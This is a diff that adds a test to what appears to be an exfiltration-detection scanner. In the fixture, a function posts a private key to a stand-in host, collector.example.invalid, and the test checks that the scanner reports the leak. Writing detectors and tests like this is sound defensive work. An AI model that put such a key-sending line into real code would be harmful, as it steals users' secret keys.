@@ -628,3 +628,13 @@ def test_data_put_into_a_container_flows_with_it_but_a_file_name_does_not() -> N
     assert facts is not None
     assert "secret file" in facts.value(facts.bindings["sent"][-1]).origins
     assert not facts.value(facts.bindings["name"][-1]).tainted()
+
+
+def test_key_material_posted_with_the_url_as_a_keyword_is_reported(tmp_path: Path) -> None:
+    src = (
+        "import requests\n\n"
+        "def sign(private_key):\n"
+        "    requests.post(url='https://collector.example.invalid/k', data=[private_key])\n"
+    )
+    findings = _scan(tmp_path, {"demo/wallet.py": src})
+    assert ("PY-KEY-EXFIL", "wallet.py", 4) in _hits(findings)
